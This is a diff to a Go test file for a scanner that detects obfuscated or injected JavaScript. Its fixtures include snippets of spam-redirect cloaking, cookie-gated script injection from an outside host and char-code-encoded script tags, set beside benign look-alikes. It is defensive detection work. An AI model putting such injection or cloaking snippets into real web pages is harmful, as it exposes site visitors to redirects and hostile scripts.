@@ -30,9 +30,14 @@ var _0x5a6b=function(_0x1b2c3d,_0x4e5f60){_0x1b2c3d=_0x1b2c3d-0x0;var _0x7a8b9c=
 		{"search referrer cloaking", `if (/google\.|bing\.|yahoo\./i.test(document.referrer)) { window.location.href = "http://pills.example.biz/?q=" + kw; }`, "cloaked-injection"},
 		{"xxtea then run", `var d=0x9E3779B9,k="` + strings.Repeat("a1B2c3D4e5", 12) + `";function x(v){/* ... */return String.fromCharCode.apply(null,v)}eval(x(k));`, "charcode-cipher"},
 		{"cookie gate", `if(document.cookie.indexOf("_seen=")==-1){document.cookie="_seen=1;path=/";var s=document.createElement("script");s.src="https://cdn.example.net/x.js";document.head.appendChild(s)}`, "gated-injection"},
+		{"many _0x names", strings.Repeat("var _0x1a2b3c=_0x4d5e6f(1);", 12), "hex-identifiers"},
+		{"escaped text", `var m = "\x48\x65\x6c\x6c\x6f\x20\x77\x6f\x72\x6c\x64\x21\x48\x65\x6c\x6c\x6f\x20\x77\x6f\x72\x6c\x64\x21\x48\x65\x6c\x6c\x6f"; console.log(m);`, "escape-moderate"},
 		// Legitimate look-alikes.
 		{"utf-16 surrogates", `function cp(c){c-=0x10000;return String.fromCharCode(0xD800+(c>>10),0xDC00+(c&0x3FF))} eval(s)`, ""},
 		{"base64 decoder", `function d(s){var o="",i=0;for(;i<s.length;i+=4){o+=String.fromCharCode((a<<2)|(b>>4))}return o}`, ""},
+		{"hidden e-mail address", `document.write(unescape("%3C%61%20%68%72%65%66%3D%22%6D%61%69%6C%74%6F%3A%6A%6F%65%40%65%78%61%6D%70%6C%65%2E%6F%72%67%22%3E%6A%6F%65%3C%2F%61%3E"));`, "decoded-write"},
+		{"char-code e-mail", `document.write(String.fromCharCode(106,111,101,64,101,120,97,109,112,108,101,46,111,114,103));`, "decoded-write"},
+		{"char-code script", `document.write(String.fromCharCode(60,115,99,114,105,112,116,32,115,114,99,61,104,116,116,112,58,47,47,120,62));`, "decoded-sink"},
 		{"analytics snippet", `document.write(unescape("%3Cscript src='" + gaJsHost + "google-analytics.com/ga.js' type='text/javascript'%3E%3C/script%3E"));`, ""},
 		{"word arrays", `var days = ["Sun","Mon","Tue","Wed"], keys = ["top","body","left"]; var m = ["e","v"];`, ""},
 		{"xxtea library", `function encrypt(v,k){var delta=0x9E3779B9,sum=0;/* rounds */return v} function toStr(a){return String.fromCharCode.apply(null,a)}`, ""},
@@ -50,12 +55,15 @@ var _0x5a6b=function(_0x1b2c3d,_0x4e5f60){_0x1b2c3d=_0x1b2c3d-0x0;var _0x7a8b9c=
 		}
 	}
 	w := DefaultWeights()
-	for _, r := range []string{"fragmented-names", "obfuscator-shape", "escape-dense", "charcode-cipher", "decoded-sink", "decoded-redirect", "gated-injection", "cloaked-injection"} {
+	for _, r := range []string{"fragmented-names", "obfuscator-shape", "escape-dense", "charcode-cipher", "decoded-sink", "decoded-write", "decoded-redirect", "gated-injection", "cloaked-injection", "hex-identifiers", "escape-moderate"} {
 		if !strings.Contains(string(defaultWeights), "    "+r+":") {
 			t.Errorf("%s: no weight in weights.yaml", r)
 		}
-		if r == "gated-injection" && w.Score("script", r, 0) >= w.Suspicious {
-			t.Errorf("%s alone (one visitor check) must not make a page suspicious", r)
+		switch r {
+		case "gated-injection", "decoded-write", "hex-identifiers", "escape-moderate":
+			if w.Score("script", r, 0) >= w.Suspicious {
+				t.Errorf("%s is weak evidence: alone it must not make a page suspicious", r)
+			}
 		}
 	}
 }
